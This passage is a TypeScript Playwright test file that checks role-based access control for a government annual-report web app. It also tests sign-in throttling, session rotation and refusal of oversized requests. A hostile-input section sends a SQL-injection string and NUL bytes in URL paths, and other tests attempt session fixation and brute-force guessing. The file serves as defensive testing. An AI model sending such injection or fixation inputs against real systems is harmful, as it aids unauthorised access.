// The access sweep (issues 5 and 8): every page, route handler and server action of the app — discovered
// from app/** and the build's action manifest, so a new one without an expectation fails this test — called
// by each role and signed out, against the answer each must get. Roles: the town's clerk and reviewer, the
// district office (supervisor and administrator), an outsider (clerk, reviewer and administrator of a sibling
// organ, added through the admin page), and nobody. Then: brute-force sign-in is slowed (429 message),
// sessions rotate on sign-in and die on sign-out.
import { readdirSync, readFileSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { actionId, callAction, DIST_DIR } from '../scripts/proof-lib';
import { currentYearInBeijing } from '../lib/domain/beijing-date';
import { DEMO_PASSWORD } from '../lib/server/data/seed-demo';

const DEMO_TOWN = '演示区长寿湖镇人民政府';
import { addUser, disableUser, resetPassword } from './admin-steps';
import { createReport, DEMO_YEARS, signIn as signInPage } from './support';

type Role = 'nobody' | 'clerk' | 'reviewer' | 'office' | 'outsider';
const ROLES: Role[] = ['nobody', 'clerk', 'reviewer', 'office', 'outsider'];
/**
 * What a caller gets: ok (served / done, or refused for a reason that is not access), login (sent to sign in /
 * 401), denied (403, or the page's 「只有…可以」 notice), notfound (404: not even told it exists),
 * to-reports / to-board (a signed-in user sent on to their reports, or a supervising office to its board), to-account (sent to 我的账号 to replace a reset password).
 */
type Outcome = 'ok' | 'login' | 'denied' | 'notfound' | 'to-reports' | 'to-board' | 'to-account';
type Row = Record<Role, Outcome>;
const row = (nobody: Outcome, clerk: Outcome, reviewer: Outcome, office: Outcome, outsider: Outcome): Row => ({ nobody, clerk, reviewer, office, outsider });

const OUTSIDER = { username: 'outsider', password: 'outsider-pass-1', organ: '演示区交通运输委员会' };

type Ids = { town: string; district: string; draft: string; published: string; own: string };
let ids: Ids;
const cookies: Partial<Record<Role, string>> = {};
let base = '';

// --- what every route must answer ---------------------------------------------------------------------------

/** Pages, by their file under app/, with the URL each is called at. */
const PAGES: Record<string, { url: (i: Ids) => string; expect: Row }> = {
  'page.tsx': { url: () => '/', expect: row('ok', 'ok', 'ok', 'ok', 'ok') },
  'login/page.tsx': { url: () => '/login', expect: row('ok', 'to-reports', 'to-reports', 'to-board', 'to-reports') },
  'reports/page.tsx': { url: () => '/reports', expect: row('login', 'ok', 'ok', 'ok', 'ok') },
  'reports/import/page.tsx': { url: () => '/reports/import', expect: row('login', 'ok', 'denied', 'denied', 'ok') },
  'reports/[id]/page.tsx': { url: (i) => `/reports/${i.draft}`, expect: row('login', 'ok', 'ok', 'ok', 'notfound') },
  'reports/[id]/history/page.tsx': { url: (i) => `/reports/${i.published}/history`, expect: row('login', 'ok', 'ok', 'ok', 'notfound') },
  'reports/[id]/preview/page.tsx': { url: (i) => `/reports/${i.draft}/preview`, expect: row('login', 'ok', 'ok', 'ok', 'notfound') },
  'reports/[id]/review/page.tsx': { url: (i) => `/reports/${i.draft}/review`, expect: row('login', 'ok', 'ok', 'ok', 'notfound') },
  'office/page.tsx': { url: (i) => `/office?organ=${i.district}&year=${DEMO_YEARS.inProgress}`, expect: row('login', 'denied', 'ok', 'ok', 'ok') },
  'office/rollup/page.tsx': { url: (i) => `/office/rollup?organ=${i.district}&year=${DEMO_YEARS.inProgress}`, expect: row('login', 'denied', 'denied', 'ok', 'denied') },
  'office/check/page.tsx': { url: () => '/office/check', expect: row('login', 'denied', 'ok', 'ok', 'ok') },
  'admin/page.tsx': { url: () => '/admin', expect: row('login', 'denied', 'denied', 'ok', 'ok') },
  'account/page.tsx': { url: () => '/account', expect: row('login', 'ok', 'ok', 'ok', 'ok') },
  // The register (issue 16): cases for the organ's clerk and reviewer, counts alone for the office above.
  'register/[organ]/[year]/page.tsx': { url: (i) => `/register/${i.town}/2093`, expect: row('login', 'ok', 'ok', 'ok', 'notfound') },
  'register/[organ]/[year]/import/page.tsx': { url: (i) => `/register/${i.town}/2093/import`, expect: row('login', 'ok', 'notfound', 'notfound', 'notfound') },
};

type Call = { method: string; url: (i: Ids) => string; body?: (i: Ids) => BodyInit; json?: boolean };
/** Route handlers, by file and method. Bodies are valid but never change data (a stale version, a bad file). */
const ROUTES: Record<string, Call & { expect: Row }> = {
  'api/reports/[id]/draft/route.ts PUT': {
    method: 'PUT', url: (i) => `/api/reports/${i.own}/draft`, json: true,
    body: () => JSON.stringify({ baseVersion: 999, report: JSON.parse(readFileSync(path.resolve('lib/domain/fixtures/seed-004.json'), 'utf8')) }),
    expect: row('login', 'ok', 'denied', 'denied', 'notfound'), // the clerk's stale save: 409, answered
  },
  'reports/[id]/download/[format]/route.ts GET': { method: 'GET', url: (i) => `/reports/${i.published}/download/docx`, expect: row('login', 'ok', 'ok', 'ok', 'notfound') },
  'api/exports/route.ts GET': { method: 'GET', url: (i) => `/api/exports?organ=${i.district}&year=${DEMO_YEARS.inProgress}&subtree=1&format=csv`, expect: row('login', 'notfound', 'notfound', 'ok', 'notfound') },
  'api/check/route.ts POST': { method: 'POST', url: () => '/api/check', body: () => upload({}), expect: row('login', 'denied', 'ok', 'ok', 'ok') },
  // The town's 2093 register exists (beforeAll): a second create clashes (409), a save on version 999 conflicts.
  'api/registers/[organ]/[year]/route.ts GET': { method: 'GET', url: (i) => `/api/registers/${i.town}/2093`, expect: row('login', 'ok', 'ok', 'ok', 'notfound') },
  'api/registers/[organ]/[year]/route.ts POST': { method: 'POST', url: (i) => `/api/registers/${i.town}/2093`, expect: row('login', 'ok', 'denied', 'denied', 'notfound') },
  'api/registers/[organ]/[year]/route.ts PUT': {
    method: 'PUT', url: (i) => `/api/registers/${i.town}/2093`, json: true, body: () => JSON.stringify({ baseVersion: 999, patch: { upsert: [], remove: [] } }),
    expect: row('login', 'ok', 'denied', 'denied', 'notfound'),
  },
  'api/registers/[organ]/[year]/import/route.ts POST': {
    method: 'POST', url: (i) => `/api/registers/${i.town}/2093/import`, body: () => registerPreview(), expect: row('login', 'ok', 'denied', 'denied', 'notfound'),
  },
  'api/registers/[organ]/[year]/export/route.ts GET': { method: 'GET', url: (i) => `/api/registers/${i.town}/2093/export`, expect: row('login', 'ok', 'ok', 'denied', 'notfound') },
  'api/reports/[id]/register/route.ts POST': {
    method: 'POST', url: (i) => `/api/reports/${i.own}/register`, json: true, body: () => JSON.stringify({ use: false }), expect: row('login', 'ok', 'denied', 'denied', 'notfound'),
  },
  'api/reports/import/route.ts POST': {
    method: 'POST', url: () => '/api/reports/import', body: (i) => upload({ organId: i.town, step: 'preview' }), expect: row('login', 'ok', 'denied', 'denied', 'notfound'),
  },
};

/** A form with a file that is no report (so nothing is stored), plus fields. */
function upload(fields: Record<string, string>): FormData {
  const form = new FormData();
  form.append('file', new Blob(['今天天气很好。\n'.repeat(20)], { type: 'text/plain' }), 'notes.txt');
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  return form;
}

/** A register file's preview step: read and classified, nothing stored. */
function registerPreview(): FormData {
  const form = new FormData();
  form.append('file', new Blob(['收到日期,申请人类型\n2093-01-05,个人\n'], { type: 'text/csv' }), '台账.csv');
  form.append('step', 'preview');
  return form;
}

/**
 * Server actions, by file#export: the page they are posted to and form fields chosen so that an allowed
 * caller passes the access check and then stops at a harmless refusal (a clash, a stale state, a bad id).
 */
const ACTIONS: Record<string, { page: string; fields: (i: Ids) => Record<string, string | string[]>; expect: Row }> = {
  'app/login/actions.ts#signInAction': { page: '/login', fields: () => ({ username: 'nobody-here', password: 'wrong-password' }), expect: row('ok', 'ok', 'ok', 'ok', 'ok') },
  'app/login/actions.ts#signOutAction': { page: '/reports', fields: () => ({}), expect: row('login', 'login', 'login', 'login', 'login') }, // on a spare session
  'app/account/actions.ts#changePasswordAction': {
    page: '/account', fields: () => ({ current: 'not-my-password', next: 'new-password-1', confirm: 'new-password-1' }), expect: row('login', 'ok', 'ok', 'ok', 'ok'),
  },
  'app/admin/actions.ts#addOrganAction': {
    page: '/admin', fields: (i) => ({ name: DEMO_TOWN, level: 'town', parentId: i.town }), expect: row('login', 'denied', 'denied', 'ok', 'denied'),
  },
  'app/admin/actions.ts#manageUserAction': {
    // Taking a role nobody holds: refused after the access check (the office) or by it (everyone else).
    page: '/admin', fields: (i) => ({ op: 'remove-role', userId: 'no-such-user', organId: i.district, role: 'admin' }), expect: row('login', 'denied', 'denied', 'ok', 'denied'),
  },
  'app/admin/actions.ts#addUserAction': {
    page: '/admin', fields: (i) => ({ username: 'clerk', displayName: '重名', password: 'password-123', organId: i.town, roles: ['clerk'] }), expect: row('login', 'denied', 'denied', 'ok', 'denied'),
  },
  'app/office/rollup/actions.ts#runRollupAction': {
    // A year before the edition: refused after the permission check, so nothing is summed.
    page: '/office/rollup', fields: (i) => ({ organId: i.district, year: '2020' }), expect: row('login', 'denied', 'denied', 'ok', 'denied'),
  },
  'app/reports/actions.ts#createReportAction': { page: '/reports', fields: (i) => ({ organId: i.town, year: String(DEMO_YEARS.published) }), expect: row('login', 'ok', 'denied', 'denied', 'denied') },
  'app/reports/[id]/workflow-actions.ts#submitAction': { page: '/reports/x', fields: (i) => ({ reportId: i.published }), expect: row('login', 'ok', 'denied', 'denied', 'denied') },
  'app/reports/[id]/workflow-actions.ts#decideAction': {
    page: '/reports/x', fields: (i) => ({ reportId: i.own, decision: 'approve', reason: '' }), expect: row('login', 'denied', 'ok', 'denied', 'denied'),
  },
  'app/reports/[id]/workflow-actions.ts#confirmImportAction': {
    // Only a 审核人 of the organ confirms an import; the clerk's draft refuses it after the access check.
    page: '/reports/x', fields: (i) => ({ reportId: i.own }), expect: row('login', 'denied', 'ok', 'denied', 'denied'),
  },
  'app/reports/[id]/workflow-actions.ts#publishAction': {
    // Clerks and reviewers of the organ both record publication (workflow.ts); the draft refuses it after the access check.
    page: '/reports/x', fields: (i) => ({ reportId: i.own, publishedOn: '2026-01-20', publishedUrl: 'https://example.gov.cn/nb' }), expect: row('login', 'ok', 'ok', 'denied', 'denied'),
  },
  'app/reports/[id]/workflow-actions.ts#commentAction': {
    page: '/reports/x', fields: (i) => ({ reportId: i.own, anchor: 'part:overview', body: '访问检查' }), expect: row('login', 'ok', 'ok', 'denied', 'denied'),
  },
  'app/reports/[id]/workflow-actions.ts#resolveAction': {
    page: '/reports/x', fields: (i) => ({ reportId: i.own, commentId: 'no-such-comment' }), expect: row('login', 'ok', 'ok', 'denied', 'denied'),
  },
  'app/reports/[id]/workflow-actions.ts#acceptWarningAction': {
    page: '/reports/x', fields: (i) => ({ reportId: i.own, finding: 'no-such-finding', reason: '已核实' }), expect: row('login', 'denied', 'ok', 'denied', 'denied'),
  },
};

// --- discovery: what app/ and the build hold ----------------------------------------------------------------

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? filesUnder(path.join(dir, e.name)) : [path.join(dir, e.name)]));
}
const APP = path.resolve('app');
const appFiles = filesUnder(APP).map((f) => path.relative(APP, f).split(path.sep).join('/'));
const discoveredPages = appFiles.filter((f) => /(^|\/)page\.tsx$/.test(f)).sort();
const discoveredRoutes = appFiles
  .filter((f) => /(^|\/)route\.ts$/.test(f))
  .flatMap((f) => [...readFileSync(path.join(APP, f), 'utf8').matchAll(/export (?:async )?function (GET|POST|PUT|PATCH|DELETE)\b/g)].map((m) => `${f} ${m[1]}`))
  .sort();
function discoveredActions(): string[] {
  const manifest = JSON.parse(readFileSync(path.resolve(DIST_DIR, 'server/server-reference-manifest.json'), 'utf8')) as {
    node: Record<string, { filename: string; exportedName: string }>;
  };
  return [...new Set(Object.values(manifest.node).map((a) => `${a.filename}#${a.exportedName}`))].sort();
}

// --- calling -------------------------------------------------------------------------------------------------

const isLogin = (location: string | null) => !!location && new URL(location, base).pathname === '/login';
const isAccount = (location: string | null) => !!location && new URL(location, base).pathname === '/account';

async function visit(url: string, cookie: string | undefined): Promise<Outcome | string> {
  const r = await fetch(`${base}${url}`, { headers: cookie ? { cookie } : {}, redirect: 'manual' });
  const location = r.headers.get('location');
  if (r.status >= 300 && r.status < 400) {
    if (isLogin(location)) return 'login';
    if (isAccount(location)) return 'to-account';
    const to = new URL(location ?? '', base).pathname;
    return to === '/reports' ? 'to-reports' : to === '/office' ? 'to-board' : `redirect ${location}`;
  }
  if (r.status === 404) return 'notfound';
  if (r.status === 401) return 'login';
  if (r.status !== 200) return `status ${r.status}`;
  const html = await r.text();
  return /role="alert"[^>]*>[^<]*只有/.test(html) ? 'denied' : 'ok';
}

async function callRoute(call: Call, cookie: string | undefined): Promise<Outcome | string> {
  const headers: Record<string, string> = { origin: base, ...(cookie ? { cookie } : {}), ...(call.json ? { 'content-type': 'application/json' } : {}) };
  const r = await fetch(`${base}${call.url(ids)}`, { method: call.method, headers, body: call.body?.(ids), redirect: 'manual' });
  await r.arrayBuffer();
  if (r.status === 401) return 'login';
  if (r.status === 403) return 'denied';
  if (r.status === 404) return 'notfound';
  if ((r.status >= 200 && r.status < 300) || r.status === 409 || r.status === 422) return 'ok';
  return `status ${r.status}`;
}

async function runAction(key: string, cookie: string | undefined): Promise<Outcome | string> {
  const [file, name] = key.split('#');
  const spec = ACTIONS[key];
  const answer = await callAction(base, spec.page, actionId(file, name), spec.fields(ids), cookie);
  const redirected = answer.headers.get('x-action-redirect')?.split(';')[0] ?? null;
  if (isLogin(redirected)) return 'login';
  if (isAccount(redirected)) return 'to-account';
  if (answer.status !== 200) return `status ${answer.status}`;
  const error = /"error":"([^"]*)"/.exec(answer.text)?.[1] ?? '';
  return /没有执行此操作的权限|不存在或无权查看|无权|只有/.test(error) ? 'denied' : 'ok';
}

async function sessionCookie(username: string, password = DEMO_PASSWORD): Promise<string> {
  const answer = await callAction(base, '/login', actionId('app/login/actions.ts', 'signInAction'), { username, password });
  const cookie = /nianbao_session=[^;]+/.exec(answer.headers.get('set-cookie') ?? '')?.[0];
  if (!cookie) throw new Error(`sign-in of ${username} failed: ${answer.text.slice(-200)}`);
  return cookie;
}

async function reportHref(page: Page, name: string): Promise<string> {
  const href = await page.getByRole('link', { name }).first().getAttribute('href');
  return href!.split('/').pop()!;
}

// --- the sweep -----------------------------------------------------------------------------------------------

test.beforeAll(async ({ browser, baseURL }) => {
  base = baseURL!;
  const page = await browser.newPage();
  // The outsider, through the admin page as the office: every role of a sibling organ (no new organ, so
  // the district's board keeps its four units).
  await signInPage(page, 'office');
  await page.goto('/admin');
  await page.getByLabel('用户名').fill(OUTSIDER.username);
  await page.getByLabel('姓名').fill('外单位');
  await page.getByLabel('初始密码（至少8位）').fill(OUTSIDER.password);
  await page.getByLabel('所属机关').selectOption({ label: OUTSIDER.organ });
  await page.getByRole('checkbox', { name: '审核人' }).check();
  await page.getByRole('checkbox', { name: '管理员' }).check();
  await page.getByRole('button', { name: '添加用户' }).click();
  // (A second run of this hook, after a failed test, finds the user there.)
  await expect(page.getByText(new RegExp(`已添加用户「${OUTSIDER.username}」|用户名「${OUTSIDER.username}」已被使用`))).toBeVisible();
  const optionValue = (label: string) => page.locator('#organ-parent option', { hasText: new RegExp(`^${label}$`) }).getAttribute('value');
  const town = (await optionValue(DEMO_TOWN))!;
  const district = (await optionValue('演示区人民政府'))!;
  await page.context().clearCookies();
  await signInPage(page, 'clerk');
  const draft = await reportHref(page, `${DEMO_YEARS.inProgress}年度报告`);
  const published = await reportHref(page, `${DEMO_YEARS.published}年度报告`);
  const existing = page.getByRole('link', { name: '2093年度报告' });
  const own = (await existing.count()) ? (await existing.getAttribute('href'))!.split('/').pop()! : (await createReport(page, 2093)).split('/').pop()!;
  await page.close();
  ids = { town, district, draft, published, own };
  for (const role of ROLES) if (role !== 'nobody') cookies[role] = await sessionCookie(role === 'outsider' ? OUTSIDER.username : role, role === 'outsider' ? OUTSIDER.password : DEMO_PASSWORD);
  // The town's 2093 register, for the register routes (created once; a second run finds it: 409).
  const created = await fetch(`${base}/api/registers/${town}/2093`, { method: 'POST', headers: { origin: base, cookie: cookies.clerk! } });
  expect([200, 409]).toContain(created.status);
});

test('every page, route and action has an expected answer per role (none added without one)', () => {
  expect(discoveredPages).toEqual(Object.keys(PAGES).sort());
  expect(discoveredRoutes).toEqual(Object.keys(ROUTES).sort());
  expect(discoveredActions()).toEqual(Object.keys(ACTIONS).sort());
});

test('pages answer each role as expected', async () => {
  const actual: Record<string, Record<Role, string>> = {};
  for (const [file, p] of Object.entries(PAGES)) {
    actual[file] = {} as Record<Role, string>;
    for (const role of ROLES) actual[file][role] = await visit(p.url(ids), cookies[role]);
  }
  expect(actual).toEqual(Object.fromEntries(Object.entries(PAGES).map(([k, p]) => [k, p.expect])));
});

test('route handlers answer each role as expected', async () => {
  const actual: Record<string, Record<Role, string>> = {};
  for (const [key, r] of Object.entries(ROUTES)) {
    actual[key] = {} as Record<Role, string>;
    for (const role of ROLES) actual[key][role] = await callRoute(r, cookies[role]);
  }
  expect(actual).toEqual(Object.fromEntries(Object.entries(ROUTES).map(([k, r]) => [k, r.expect])));
});

test('server actions answer each role as expected, and change nothing they were refused', async () => {
  const actual: Record<string, Record<Role, string>> = {};
  for (const key of Object.keys(ACTIONS)) {
    actual[key] = {} as Record<Role, string>;
    for (const role of ROLES) {
      // Signing out is tried on a spare session, so the sweep keeps its own.
      const spare = key.endsWith('#signOutAction') && role !== 'nobody' ? await sessionCookie(role === 'outsider' ? OUTSIDER.username : role, role === 'outsider' ? OUTSIDER.password : DEMO_PASSWORD) : cookies[role];
      actual[key][role] = await runAction(key, spare);
    }
  }
  expect(actual).toEqual(Object.fromEntries(Object.entries(ACTIONS).map(([k, a]) => [k, a.expect])));
  // The clerk's own report is still at version 1: no action above changed it (comments do not make versions).
  const report = JSON.parse(readFileSync(path.resolve('lib/domain/fixtures/seed-004.json'), 'utf8'));
  const r = await fetch(`${base}/api/reports/${ids.own}/draft`, {
    method: 'PUT', headers: { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, body: JSON.stringify({ baseVersion: 1, report }),
  });
  expect(r.status).toBe(200);
});

/** Posts the import form (issue 11) for the town: a file, then the step. */
async function importStep(cookie: string | undefined, file: Buffer, step: 'preview' | 'confirm', digest = ''): Promise<{ status: number; body: Record<string, unknown> }> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(file)], { type: 'text/plain' }), 'report.txt');
  for (const [k, v] of Object.entries({ organId: ids.town, step, digest })) form.append(k, v);
  const r = await fetch(`${base}/api/reports/import`, { method: 'POST', headers: { origin: base, ...(cookie ? { cookie } : {}) }, body: form });
  return { status: r.status, body: await r.json() };
}

const seed003In = (year: number) => Buffer.from(
  readFileSync(path.resolve('e2e/fixtures/seed-003-2022.txt'), 'utf8').replace(/202[23]/g, (y) => String(y === '2022' ? year : year + 1)),
);

test('import per role: only the clerk imports, only an ended year, and only the town\'s 审核人 confirms', async () => {
  const answer = (status: number): string => ({ 200: 'ok', 400: 'refused', 401: 'login', 403: 'denied', 404: 'notfound' } as Record<number, string>)[status] ?? `status ${status}`;
  // A year not yet ended is refused to the clerk for its year; everyone else is refused for who they are.
  const future = seed003In(2067);
  const digest = (await importStep(cookies.clerk, future, 'preview')).body.digest as string;
  const confirms: Record<string, string> = {};
  for (const role of ROLES) confirms[role] = answer((await importStep(cookies[role], future, 'confirm', digest)).status);
  expect(confirms).toEqual({ nobody: 'login', clerk: 'refused', reviewer: 'denied', office: 'denied', outsider: 'notfound' });
  const lastEnded = currentYearInBeijing(new Date()) - 1;
  expect((await importStep(cookies.clerk, future, 'confirm', digest)).body.error).toBe(`2067年度还未到来，不能导入该年度已发布的报告：只能导入${lastEnded}年度及以前的报告。`);

  // 2021 has ended: the clerk's import is kept, waiting for a 审核人; the action confirms it for the reviewer only.
  const ended = seed003In(2021);
  const kept = await importStep(cookies.clerk, ended, 'confirm', (await importStep(cookies.clerk, ended, 'preview')).body.digest as string);
  expect(kept).toMatchObject({ status: 200, body: { year: 2021 } });
  const id = kept.body.id as string;
  const status = async () => /状态：<strong class="badge">([^<]*)</.exec(await (await fetch(`${base}/reports/${id}`, { headers: { cookie: cookies.clerk! } })).text())?.[1];
  expect(await status()).toBe('已导入，待审核人确认');
  const confirmedBy: Record<string, string> = {};
  for (const role of ['nobody', 'clerk', 'office', 'outsider', 'reviewer'] as Role[]) {
    const r = await callAction(base, '/reports/x', actionId('app/reports/[id]/workflow-actions.ts', 'confirmImportAction'), { reportId: id }, cookies[role]);
    // The action's state: its error, or (React's "$undefined" error) its success message.
    confirmedBy[role] = isLogin(r.headers.get('x-action-redirect')?.split(';')[0] ?? null) ? 'login' : /"(?:error|ok)":"([^"$][^"]*)"/.exec(r.text)?.[1] ?? r.text.slice(-200);
  }
  expect(confirmedBy).toEqual({
    nobody: 'login', clerk: '没有执行此操作的权限', office: '没有执行此操作的权限', outsider: '报告不存在或无权查看', reviewer: '已确认，报告已审定',
  });
  expect(await status()).toBe('已审定');
});

test('roll-up per role: a unit is never rolled up into itself, and the clerk\'s saves after it are kept', async () => {
  const put = async (baseVersion: number, report: unknown) => {
    const r = await fetch(`${base}/api/reports/${ids.own}/draft`, {
      method: 'PUT', headers: { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, body: JSON.stringify({ baseVersion, report }),
    });
    return { status: r.status, body: await r.json() };
  };
  // The clerk's own report as the server has it (a stale save answers with the current version).
  const current = async () => (await put(0x7fffffff, JSON.parse(readFileSync(path.resolve('lib/domain/fixtures/seed-004.json'), 'utf8')))).body.current as { version: number; report: { tables: { active: Record<string, unknown> } } };
  const withLicensing = (c: Awaited<ReturnType<typeof current>>, n: number) => ({ ...c.report, tables: { ...c.report.tables, active: { ...c.report.tables.active, licensing: n } } });
  const before = await current();
  expect((await put(before.version, withLicensing(before, 4242))).status).toBe(200);

  const rollupOfTown: Record<string, string> = {};
  for (const role of ROLES) {
    const r = await callAction(base, '/office/rollup', actionId('app/office/rollup/actions.ts', 'runRollupAction'), { organId: ids.town, year: '2093' }, cookies[role]);
    rollupOfTown[role] = isLogin(r.headers.get('x-action-redirect')?.split(';')[0] ?? null) ? 'login' : /"error":"([^"]*)"/.exec(r.text)?.[1] ?? `redirect ${r.headers.get('x-action-redirect')}`;
  }
  const denied = '只有主管部门的审核人或管理员可以汇总';
  expect(rollupOfTown).toEqual({
    nobody: 'login', clerk: denied, office: denied, outsider: denied, reviewer: `${DEMO_TOWN}下没有下级单位，不能汇总：本地区汇总只为有下级单位的机关生成。`,
  });
  const after = await current();
  expect(after.report.tables.active.licensing).toBe(4242);
  expect((await put(after.version, withLicensing(after, 99))).status).toBe(200);
  expect((await current()).report.tables.active.licensing).toBe(99);
});

test('brute-force sign-in is slowed: after three failures the next attempt is refused with the wait', async () => {
  const id = actionId('app/login/actions.ts', 'signInAction');
  const errors: string[] = [];
  for (let i = 0; i < 5; i++) {
    const answer = await callAction(base, '/login', id, { username: 'brute-force-target', password: `guess-${i}` });
    errors.push(/"error":"([^"]*)"/.exec(answer.text)?.[1] ?? '');
  }
  expect(errors.slice(0, 3)).toEqual(Array(3).fill('用户名或密码不正确'));
  expect(errors[3]).toMatch(/^登录尝试次数过多，请在\d+秒后再试$/);
  expect(errors[4]).toMatch(/^登录尝试次数过多/);
});

test('sessions rotate on sign-in and die on sign-out; a token chosen by someone else is never adopted', async () => {
  const first = await sessionCookie('reviewer');
  const second = await sessionCookie('reviewer');
  expect(second).not.toBe(first);
  const planted = 'nianbao_session=chosen-by-an-attacker';
  const answer = await callAction(base, '/login', actionId('app/login/actions.ts', 'signInAction'), { username: 'reviewer', password: DEMO_PASSWORD }, planted);
  expect(/nianbao_session=([^;]+)/.exec(answer.headers.get('set-cookie') ?? '')?.[1]).not.toBe('chosen-by-an-attacker');
  expect(await visit('/reports', planted)).toBe('login');
  for (const c of [first, second]) expect(await visit('/reports', c)).toBe('ok');
  await callAction(base, '/reports', actionId('app/login/actions.ts', 'signOutAction'), {}, first);
  expect(await visit('/reports', first)).toBe('login');
  expect(await visit(`/reports/${ids.draft}/download/docx`, first)).toBe('login');
  expect(await visit('/reports', second)).toBe('ok'); // another device's session goes on
});

test('a disabled user’s live session is signed out everywhere at once; a reset password opens only 我的账号', async ({ browser }) => {
  const page = await browser.newPage();
  await signInPage(page, 'office');
  const stamp = Date.now();
  const leaver = { username: `leaver-${stamp}`, displayName: '离职人员', password: 'leaver-pass-1', organ: DEMO_TOWN, roles: ['填报人' as const] };
  const resetee = { ...leaver, username: `resetee-${stamp}`, displayName: '忘记密码' };
  await addUser(page, leaver);
  await addUser(page, resetee);
  const leaverCookie = await sessionCookie(leaver.username, leaver.password);
  expect(await visit('/reports', leaverCookie)).toBe('ok');
  await disableUser(page, leaver.username);
  const oneTime = await resetPassword(page, resetee.username);
  await page.close();
  const resetCookie = await sessionCookie(resetee.username, oneTime);

  // The disabled user's session answers exactly like nobody's; the reset user's leads to 我的账号 only.
  type Pair = { disabled: string; reset: string };
  const actual: Record<string, Pair> = {};
  const expected: Record<string, Pair> = {};
  const openToReset: Record<string, Outcome> = { 'page.tsx': 'ok', 'login/page.tsx': 'to-reports', 'account/page.tsx': 'ok' };
  for (const [file, p] of Object.entries(PAGES)) {
    actual[file] = { disabled: await visit(p.url(ids), leaverCookie), reset: await visit(p.url(ids), resetCookie) };
    expected[file] = { disabled: p.expect.nobody, reset: openToReset[file] ?? 'to-account' };
  }
  for (const [key, r] of Object.entries(ROUTES)) {
    actual[key] = { disabled: await callRoute(r, leaverCookie), reset: await callRoute(r, resetCookie) };
    expected[key] = { disabled: r.expect.nobody, reset: 'denied' };
  }
  // (Signing out is left out: it only ends the caller's own session.)
  for (const key of Object.keys(ACTIONS).filter((k) => !k.endsWith('#signOutAction'))) {
    actual[key] = { disabled: await runAction(key, leaverCookie), reset: await runAction(key, resetCookie) };
    expected[key] = { disabled: ACTIONS[key].expect.nobody, reset: /#(signInAction|changePasswordAction)$/.test(key) ? 'ok' : 'to-account' };
  }
  expect(actual).toEqual(expected);
});

/**
 * One request on its own connection (closed after): a server that refuses a large body may close the
 * socket before reading it, which must not spoil the keep-alive connections of the other tests.
 */
async function sendOnce(url: string, method: string, headers: Record<string, string>, body: BodyInit): Promise<{ status: number; text: string }> {
  const request = new Request(url, { method, headers, body });
  const bytes = Buffer.from(await request.arrayBuffer());
  const all = { ...Object.fromEntries(request.headers), 'content-length': String(bytes.length) };
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = http.request(url, { method, headers: all, agent: false }, (res) => {
      answered = true;
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode!, text }));
    });
    req.on('error', (e) => !answered && reject(e)); // the server may stop reading once it has answered
    req.end(bytes);
  });
}

test('oversized requests are refused: a draft over the limit with 413, a server action body over 1 MB unrun', async () => {
  const big = JSON.stringify({ baseVersion: 1, report: { parts: { overview: '一'.repeat(400_000) } } });
  const r = await sendOnce(`${base}/api/reports/${ids.own}/draft`, 'PUT', { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, big);
  expect(r.status).toBe(413);
  expect(JSON.parse(r.text).error).toMatch(/提交的内容过大/);
  const action = (size: number) => {
    const form = new FormData();
    for (const [k, v] of Object.entries({ current: 'x'.repeat(size), next: 'new-password-1', confirm: 'new-password-1' })) form.append(`_1_${k}`, v);
    form.append('0', JSON.stringify([{}, '$K1']));
    const headers = { 'Next-Action': actionId('app/account/actions.ts', 'changePasswordAction'), origin: base, accept: 'text/x-component', cookie: cookies.clerk! };
    return sendOnce(`${base}/account`, 'POST', headers, form);
  };
  // Just under the limit the action runs (and refuses the password); over it Next refuses the body before the
  // action runs — with 500, not 413 (Next turns its own 413 into 500 for actions).
  expect((await action(900 * 1024)).text).toContain('当前密码不正确');
  const over = await action(2 * 1024 * 1024);
  expect([413, 500]).toContain(over.status);
  expect(over.text).not.toContain('当前密码不正确');
});

// --- hostile input (issue 11, items 4, 6 and 8) -----------------------------------------------------------------

type OwnReport = Record<string, unknown> & { tables: { active: Record<string, unknown> }; parts: Record<string, string> };
/** The clerk's own report as stored, and its version, learnt from the conflict a stale save (of seed 004) gets. */
async function ownCurrent(): Promise<{ version: number; report: OwnReport }> {
  const seed = JSON.parse(readFileSync(path.resolve('lib/domain/fixtures/seed-004.json'), 'utf8'));
  const r = await fetch(`${base}/api/reports/${ids.own}/draft`, {
    method: 'PUT', headers: { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, body: JSON.stringify({ baseVersion: 999_999, report: seed }),
  });
  return ((await r.json()) as { current: { version: number; report: OwnReport } }).current;
}
const putOwn = (body: BodyInit) => sendOnce(`${base}/api/reports/${ids.own}/draft`, 'PUT', { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, body);

test('an id that is not a UUID, or holds NUL, is 404 on every page and route that takes one', async () => {
  const urls = ['/reports/%00', '/reports/%00/history', '/reports/%00/preview', '/reports/%00/review', '/reports/%00/download/pdf', '/reports/not-a-uuid',
    '/reports/not-a-uuid/review', "/reports/'%20OR%201=1--/history", '/reports/%F0%9F%98%80/download/docx'];
  const answers: Record<string, string> = {};
  for (const url of urls) answers[url] = await visit(url, cookies.clerk);
  expect(answers).toEqual(Object.fromEntries(urls.map((u) => [u, 'notfound'])));
  const put = await sendOnce(`${base}/api/reports/%00/draft`, 'PUT', { origin: base, cookie: cookies.clerk!, 'content-type': 'application/json' }, '{"baseVersion":1,"report":{}}');
  expect(put.status).toBe(404);
  const exports = await fetch(`${base}/api/exports?organ=%00&year=${DEMO_YEARS.inProgress}&format=csv`, { headers: { cookie: cookies.office! } });
  expect(exports.status).toBe(404);
});

test('a year no report can have is 400 with a message naming 年度, not 500', async () => {
  const r = await fetch(`${base}/api/exports?organ=${ids.district}&year=99999999999&subtree=1&format=csv`, { headers: { cookie: cookies.office! } });
  expect(r.status).toBe(400);
  expect(((await r.json()) as { error: string }).error).toContain('「年度」');
